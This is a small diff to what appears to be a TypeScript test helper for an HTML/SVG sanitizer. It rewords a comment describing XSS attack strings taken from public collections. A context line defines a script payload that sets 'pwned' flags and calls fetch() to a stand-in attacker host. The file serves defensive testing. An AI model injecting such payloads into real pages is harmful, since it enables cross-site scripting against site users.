@@ -1,6 +1,6 @@
 /**
- * HTML and SVG by which pages are attacked: from the public collections (OWASP's filter evasion, html5sec, the cheat sheets
- * of PortSwigger), each made to reach `evil` or to run `run`. In each kind of drawing all of them are tried.
+ * HTML and SVG attacks on pages, from public collections: OWASP's filter evasion, html5sec and PortSwigger's cheat
+ * sheets. Each tries to reach `evil` or to run `run`. Every kind of drawing is tested with all of them.
  */
 export function canvasAttacks(evil: string): readonly string[] {
   const run = `top.pwned=1;parent.pwned=1;window.pwned=1;fetch('${evil}/run')`;
